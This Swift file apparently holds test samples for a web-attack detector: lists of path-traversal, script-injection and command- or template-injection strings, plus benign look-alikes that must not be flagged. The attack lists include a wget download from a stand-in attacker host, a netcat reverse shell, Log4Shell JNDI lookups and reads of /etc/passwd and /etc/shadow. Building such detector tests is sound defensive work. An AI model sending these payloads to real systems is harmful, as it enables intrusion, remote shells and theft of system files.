/// Values that attack a web server, and values of every day that look like it.
enum WebAttackSamples {
  /// Values of a parameter.
  static let traversals = [
    "../../etc/passwd", "../../../../../../windows/win.ini", "..\\..\\..\\boot.ini",
    "/etc/passwd", "/etc/shadow", "C:\\boot.ini", "c:/windows/win.ini", "../.env", "../../x",
    "../../../etc/passwd\0.png", "images/../../../secret.txt", "....//....//etc/passwd",
    "/proc/self/environ", "php://filter/convert.base64-encode/resource=index", "php://input",
    "file:///etc/hosts", "expect://id", "data://text/plain;base64,PD9waHA=", "phar://x.jpg",
    "data:text/plain,hello", "/var/www/../../etc/passwd", "..;/..;/manager/html",
  ]

  static let scripts = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>", "\"><script >x</script>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg onload = alert(1)>",
    "<body\tonload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=java\nscript:alert(1)>", "<iframe srcdoc='x'>", "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>", "\" onmouseover=\"alert(1)",
    "' autofocus onfocus=alert(1) x='",
    "';alert(document.domain)//", "\"-alert(1)-\"", "</script><script>x",
    "<math href=\"JaVaScRiPt:x\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<a href=\"&#106;avascript:alert(1)\">",
    "<a href=\"javascript&colon;alert(1)\">", "<img src=x onerror&#x3d;alert(1)>",
    "<object data=\"data:text/html;base64,x\">", "\"/onclick=alert(1)//",
  ]

  static let commands = [
    "127.0.0.1; cat /etc/passwd", "127.0.0.1;id", ";id", "|id", "| whoami", "x; whoami",
    "127.0.0.1 && uname -a", "127.0.0.1 & dir", "x|ls -la", "`id`", "a`uname -a`", "$(whoami)",
    "$(cat /flag)", "8.8.8.8\ncat /etc/passwd", "x;wget http://evil.example/a.sh",
    "x|nc -e /bin/sh 10.0.0.9 4444",
    "x;curl${IFS}evil.example", "x;c'a't /etc/passwd", "x;/bin/cat /etc/passwd", "x;/usr/bin/id;",
    "1;ping -c 5 10.0.0.9", "1|sleep 10", "x&powershell -enc AAAA", "x&&type c:\\boot.ini",
    "x;bash -i",
    "() { :; }; echo x", "() { ignored;};/bin/bash -c 'id'",
    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
    "${j${lower:n}di:${lower:l}dap://x}", "${${env:NOTHING:-j}ndi:dns://x}",
    "${${upper:${::-j}}ndi:x}",
    "{{7*7}}", "{{ 7 * '7' }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__}}",
    "%{(#context['x'])}", "<?php system('id'); ?>", "<?= `id` ?>", "system('id')",
    "eval($_POST['x'])",
    "x;phpinfo()",
  ]

  /// Values that must count as none of the three.
  static let harmless = [
    "<b>bold</b>", "a < b", "a<b and c>d", "1 < 2 && 3 > 2", "x <- y", "I <3 you", "<p>Hello</p>",
    "<a href=\"https://example.org/\">here</a>", "Tom & Jerry", "R&D; sales", "salt; pepper; more",
    "cats; dogs",
    "dog;cat", "cat | dog", "find; and replace", "AT&T", "fish & chips; extra vinegar",
    "id|name|date",
    "name;id", "select;ls", "blood type; type A/B", "less is more; more or less", "a;b;c;d",
    "100% sure; 50%",
    "use `ls` to list", "run `cat file` first", "He said \"hello\"", "it's on = off", "on=1",
    "\"quoted\" once = twice",
    "../img/logo.png", "./a/../b", "a/b/../../c", "https://example.org/a/../b",
    "http://example.org/index.php",
    "...", "wait.... really", "etc/passwd", "what is /etc/passwd for", "see etc", "x..y", "1..10",
    "data:image/png;base64,iVBORw0KGgo=", "javascript", "javascript:void(0)", "how to alert(user)",
    "{\"a\":{\"b\":[1,2]},\"c\":\"d\"}", "{{name}}", "{{ user.first }}", "${HOME}", "#{title}",
    "f(x) = {x}",
    "function () { return 1 }", "$(document).ready()", "$5; $10", "cost: $(5)", "regex: ^a|b$",
    "a|b|c", "x||y", "a && b",
    "YWJjZGVm/+Zm9v==", "ZWNobyAiaGkiOyBscw==", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_",
    "GA1.2.123456789.1700000000",
    "M&M's", "O'Brien", "5' 10\"", "Dr. Who; the doctor", "the id; the name",
    "first line\nsecond line\ncat food", "Dear all,\n\nfind attached",
    "system (of a down)", "eval(x)", "assert yourself", "time: 12:30; sleep well", "q=cat",
    "C:\\Users\\x\\a.txt", "\\\\server\\share",
    "&lt;b&gt;", "&amp;", "&nbsp;&copy;", "A&B;C", "<!-- note -->", "5>4; 3<4",
    "one<two onto=three",
    "host; and guest", "net worth; net income", "ver. 2", "SELECT id|name", "ls", "id", "cat",
    "whoami",
  ]
}
